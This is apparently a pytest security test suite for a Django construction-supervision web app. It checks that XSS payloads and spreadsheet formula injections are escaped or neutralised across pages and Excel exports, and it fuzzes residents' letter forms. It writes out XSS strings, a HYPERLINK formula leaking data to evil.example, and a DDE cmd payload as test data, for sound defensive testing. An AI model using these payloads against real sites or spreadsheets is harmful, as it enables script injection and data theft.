    assert response.status_code == 200


# --- XSS ---------------------------------------------------------------------------------------

PAYLOAD = '<script>alert(1)</script>"><img src=x onerror=alert(1)>javascript:alert(1)'
SHORT = '"><script>x</script>'  # 20 characters: building
TINY = "<b onclick=alert(1)>"  # 20 characters: unit
RAW = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<script>x</script>", TINY]
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
JS_URL = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I)


def assert_escaped(response, where: str, shows: bool = True) -> None:
    assert response.status_code in (200, 400), f"{where}: {response.status_code}"
    html = response.content.decode()
    for raw in RAW:
        assert raw not in html, f"{where}: raw {raw!r}"
    assert not JS_URL.search(html), f"{where}: javascript: URL"
    if shows:
        assert ESCAPED in html, f"{where}: the payload is not shown (escaped)"


def sheet_strings(content: bytes) -> tuple[list, str]:
    """The cells of every sheet of a workbook, and its raw XML."""
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(
            archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
        )
    return cells, xml


def test_xss_payloads_are_shown_escaped_everywhere(
    world, client, django_capture_on_commit_callbacks
):
    """Payloads in every text field a person types: the issue (title, description, location,
    building, unit), comments and step texts, a patrol, a consultation, a response template."""
    client.raise_request_exception = False
    w = world
    w.project.departments.add(w.office)
    client.force_login(w.alice)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/issues/new/",
            {
                "project": w.project.pk,
                "category": Issue.Category.QUALITY,
                "urgency": Issue.Urgency.NORMAL,
                "title": PAYLOAD,
                "description": PAYLOAD + "\n" + PAYLOAD,
                "location": PAYLOAD,
                "building": SHORT,
                "unit": TINY,
                "photos": image_file(),
            },
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    issue = Issue.objects.get(reporter=w.alice)
    assert (issue.title, issue.location, issue.building, issue.unit) == (
        PAYLOAD,
        PAYLOAD,
        SHORT,
        TINY,
    )
    # The same payloads refused by the form come back in its fields, escaped.
    refused = client.post("/issues/new/", {"title": PAYLOAD, "description": PAYLOAD})
    assert refused.status_code == 400
    assert_escaped(refused, "refused filing form")

    ResponseTemplate.objects.create(department=w.office, title=RAW[0], text=PAYLOAD)  # 30 at most
    with django_capture_on_commit_callbacks(execute=True):
        services.comment_on_issue(issue, actor=w.alice, text=PAYLOAD)
        services.accept_issue(issue, actor=w.handler, text=PAYLOAD)
        services.comment_on_issue(issue, actor=w.handler, text=PAYLOAD)
        services.dispatch_issue(issue, actor=w.handler, department=w.contractor, text=PAYLOAD)
    client.force_login(w.handler)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/issues/{issue.pk}/comment/", {"text": PAYLOAD})
    assert response.status_code == 302
    refused = client.post(f"/issues/{issue.pk}/transfer/", {"reason": PAYLOAD, "department": "x"})
    assert refused.status_code == 400
    assert_escaped(refused, "refused step form")

    client.force_login(w.alice)
    form = {"project": w.project.pk, "note": PAYLOAD}
    for value in Patrol.Check.values:
        form[f"check-{value}"] = "ok"
    form["check-fencing"], form["note-fencing"] = "problem", PAYLOAD
    response = client.post("/patrols/new/", form)
    assert response.status_code == 302
    patrol = Patrol.objects.get()

    today = timezone.localdate()
    consultation = Consultation.objects.create(
        project=w.project,
        title=PAYLOAD,
        opens_on=today - timedelta(days=1),
        closes_on=today + timedelta(days=5),
    )
    ConsultationItem.objects.create(
        consultation=consultation,
        kind=ConsultationItem.Kind.SCOPE,
        area="building",
        text=PAYLOAD,
        options=PAYLOAD + "\n普通涂料",
    )
    household = Household.objects.create(
        consultation=consultation, building="1幢", room="101", code=residents.new_code()
    )
    Issue.objects.filter(pk=issue.pk).update(is_public=True)  # the bureau publishes it

    pages = {
        "alice": [
            issue.get_absolute_url(),
            "/issues/",
            f"/issues/?q={PAYLOAD[:20]}",
            "/feed/",
            "/me/",
            "/notifications/",
            w.project.get_absolute_url(),
            "/patrols/",
            patrol.get_absolute_url(),
            consultation.get_absolute_url(),
            f"{consultation.get_absolute_url()}?code={household.code}",
            f"/consultations/{consultation.pk}/paper/",
        ],
        "handler": [
            issue.get_absolute_url(),
            "/issues/",
            "/feed/",
            "/notifications/",
            f"/digest/?date={today.isoformat()}",
            f"/panel/supervision/issue/{issue.pk}/change/",
            "/panel/supervision/issue/?q=script",
            "/panel/supervision/responsetemplate/",
            f"/panel/supervision/consultation/{consultation.pk}/change/",
            "/panel/supervision/consultation/",
            f"/consultations/{consultation.pk}/slips/",
            patrol.get_absolute_url(),
        ],
        "builder": [issue.get_absolute_url(), "/feed/", "/notifications/"],
        "bureau": [
            issue.get_absolute_url(),
            f"/panel/supervision/issue/{issue.pk}/change/",
            "/panel/supervision/extensionrequest/",
            f"/digest/?date={today.isoformat()}",
        ],
        None: [w.project.get_absolute_url(), consultation.get_absolute_url()],
    }
    # Pages that show none of the payload's fields (their check is only: nothing raw).
    silent = {"/notifications/", "/panel/supervision/extensionrequest/", "/patrols/"}
    for role, urls in pages.items():
        client.logout()
        if role:
            client.force_login(getattr(w, role))
        for url in urls:
            response = client.get(url)
            assert_escaped(response, f"{role} {url}", shows=url not in silent)
            TALLY["xss_pages"] += 1

    # The workbooks: the text is the text, XML-escaped in the file, never a formula.
    client.force_login(w.handler)
    export = client.get("/dashboard/export.xlsx", {"preset": "all"})
    panel_export = client.post(
        "/panel/supervision/issue/",
        {"action": "export_xlsx", "_selected_action": [issue.pk], "index": "0"},
    )
    for response in (export, panel_export):
        assert response.status_code == 200
        cells, xml = sheet_strings(response.content)
        assert PAYLOAD in [c.value for c in cells]
        assert "<script>" not in xml and "&lt;script&gt;" in xml


def test_a_formula_typed_as_a_title_is_text_in_the_workbooks(world, client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    issue = world.submit(title=formula, description="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(world.handler)
    for response in (
        client.get("/dashboard/export.xlsx", {"preset": "all"}),
        client.post(
            "/panel/supervision/issue/",
            {"action": "export_xlsx", "_selected_action": [issue.pk], "index": "0"},
        ),
    ):
        assert response.status_code == 200
        cells, _xml = sheet_strings(response.content)
        titles = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert titles, "the title is in the sheet"
        for cell in titles:
            assert cell.data_type == "s" and cell.value.startswith("'="), cell.value


def test_login_form_shows_a_payload_username_escaped(db, client):
    cache.clear()
    response = client.post("/accounts/login/", {"username": PAYLOAD[:150], "password": "x"})
    assert_escaped(response, "login form")


@pytest.mark.parametrize(
    ("method", "url", "data"),
    [
        ("GET", "/issues/", {"q": "a\x00b"}),
        ("GET", "/panel/supervision/issue/", {"status__exact": "\x00"}),
        ("GET", "/dashboard/", {"preset": "\x00"}),
        ("POST", "/accounts/login/", {"username": "alice\x00", "password": "x"}),
    ],
)
def test_nul_is_refused_everywhere(world, client, method, url, data):
    client.force_login(world.bureau)
    response = client.post(url, data) if method == "POST" else client.get(url, data)
    assert response.status_code == 400


# --- residents' letters ------------------------------------------------------------------------


@pytest.fixture
def letter(fuzzer):
    """A letter on Alice's project, with a reply number."""
    from supervision import letters

    return letters.send_letter(
        project=fuzzer.world.project,
        summary="3 幢门口的围挡倒了",
        mobile="13911112222",
        sender_address="10.0.0.99",
    )


ADDRESSES = st.sampled_from(["10.0.0.1", "10.0.0.2", "::1"])


@fuzz(40)
@given(data=st.data())
def test_fuzz_letter_form(fuzzer, data):
    """Anyone may post anything to a project's letter form: never a server error."""
    example()
    w = fuzzer.world
    form = drop_none(
        {
            "summary": data.draw(maybe(ANYTHING)),
            "details": data.draw(maybe(ANYTHING)),
            "building": data.draw(maybe(ANYTHING)),
            "unit": data.draw(maybe(ANYTHING)),
            "mobile": data.draw(
                maybe(
                    st.sampled_from(["13912345678", "１３９１２３４５６７８", "1391234"]) | ANYTHING
                )
            ),
            "website": data.draw(maybe(st.sampled_from(["", "", "http://spam.example/"]) | TEXT)),
            "project": data.draw(maybe(ANYTHING)),
            "status": data.draw(maybe(ANYTHING)),
        }
    )
    photos = data.draw(st.lists(FILES, max_size=4))
    if photos:
        form["photos"] = photos
    extra = {"REMOTE_ADDR": data.draw(ADDRESSES)}
    if data.draw(st.booleans()):
        extra["HTTP_X_REQUESTED_WITH"] = "XMLHttpRequest"
    project = data.draw(st.sampled_from([w.project, w.other_project]))
    role = data.draw(st.sampled_from(["anon", "anon", "alice", "handler"]))
    url = f"/projects/{project.pk}/letters/new/"
    response = fuzzer.send(role, "POST", url, form, **extra)
    assert response.status_code in (200, 302, 400, 409, 429), response.status_code
    if response.status_code == 302:
        assert_local(response["Location"])
    if "X-Location" in response:
        assert_local(response["X-Location"])


@fuzz(40)
@given(
    role=ROLE,
    code=ANYTHING | st.text(alphabet="ABCDEFGHJKMNPQRSTUVWXYZ23456789abc -", max_size=12),
    photo=maybe(NUMBERS | st.integers(0, 10**6).map(str)),
)
def test_fuzz_letter_codes(fuzzer, letter, role, code, photo):
    """Any 查询码 in the address, with or without a photo: a page, a 404 or a 429."""
    from urllib.parse import quote

    example()
    cache.clear()  # wrong codes are counted per address
    for value in (code, letter.code.lower(), f" {letter.code} "):
        quoted = quote(value, safe="")
        if not quoted:
            continue
        response = fuzzer.send(role, "GET", f"/letters/{quoted}/")
        assert response.status_code in (200, 404, 429), response.status_code
        if photo is not None:
            response = fuzzer.send(
                role, "GET", f"/letters/{quoted}/photos/{quote(photo, safe='')}/"
            )
            assert response.status_code in (200, 404, 429), response.status_code


@fuzz(60)
@given(data=st.data())
def test_fuzz_letter_triage(fuzzer, letter, data):
    """Random fields posted to the four triage steps, by anyone logged in."""
    example()
    step = data.draw(st.sampled_from(["answer", "file", "support", "decline"]))
    issues = [issue.pk for issue in fuzzer.issues.values()]
    form = drop_none(
        {
            "text": data.draw(maybe(ANYTHING)),
            "reason": data.draw(maybe(ANYTHING)),
            "category": data.draw(maybe(st.sampled_from(Issue.Category.values) | ANYTHING)),
            "urgency": data.draw(maybe(st.sampled_from(Issue.Urgency.values) | ANYTHING)),
            "title": data.draw(maybe(ANYTHING)),
            "description": data.draw(maybe(ANYTHING)),
            "building": data.draw(maybe(ANYTHING)),
            "households": data.draw(maybe(NUMBERS | ANYTHING)),
            "issue": data.draw(maybe(st.sampled_from(issues) | ANYTHING)),
            "status": data.draw(maybe(ANYTHING)),
        }
    )
    photos = data.draw(st.lists(FILES, max_size=2))
    if photos:
        form["photos"] = photos
    extra = {}
    if data.draw(st.booleans()):
        extra["HTTP_X_REQUESTED_WITH"] = "XMLHttpRequest"
    role = data.draw(st.sampled_from(["alice", "alice", "alice", "bob", "handler", "bureau"]))
    pk = data.draw(st.sampled_from([letter.pk, letter.pk, 999_999]))
    response = fuzzer.send(role, "POST", f"/me/letters/{pk}/{step}/", form, **extra)
    assert response.status_code in (200, 302, 400, 403, 404, 409), response.status_code
    if response.status_code == 302:
        assert_local(response["Location"])


def test_a_letter_is_shown_escaped_everywhere(world, client, django_capture_on_commit_callbacks):
    """Payloads in every field a resident types, on every page that shows a letter."""
    from supervision import letters

    client.raise_request_exception = False
    world.project.departments.add(world.office)
    response = client.post(
        f"/projects/{world.project.pk}/letters/new/",
        {"summary": PAYLOAD[:100], "details": PAYLOAD, "building": SHORT, "unit": TINY},
    )
    assert response.status_code == 302
    letter = letters.Letter.objects.get()
    refused = client.post(
        f"/projects/{world.project.pk}/letters/new/",
        {"summary": "", "details": PAYLOAD, "mobile": PAYLOAD},
        REMOTE_ADDR="10.0.0.7",
    )
    assert refused.status_code == 400
    assert_escaped(refused, "refused letter form")
    assert_escaped(client.get(f"/letters/{letter.code}/"), "tracking page")
    client.force_login(world.alice)
    assert_escaped(client.get(f"/me/letters/{letter.pk}/"), "triage page")
    assert_escaped(client.get("/me/letters/"), "inbox", shows=False)
    letters.escalate_letter(letter, now=letters.escalation_due(letter) + timedelta(minutes=1))
    client.force_login(world.handler)
    assert_escaped(client.get("/panel/supervision/letter/"), "panel letters", shows=False)
    change = client.get(f"/panel/supervision/letter/{letter.pk}/change/")
    assert_escaped(change, "panel letter")
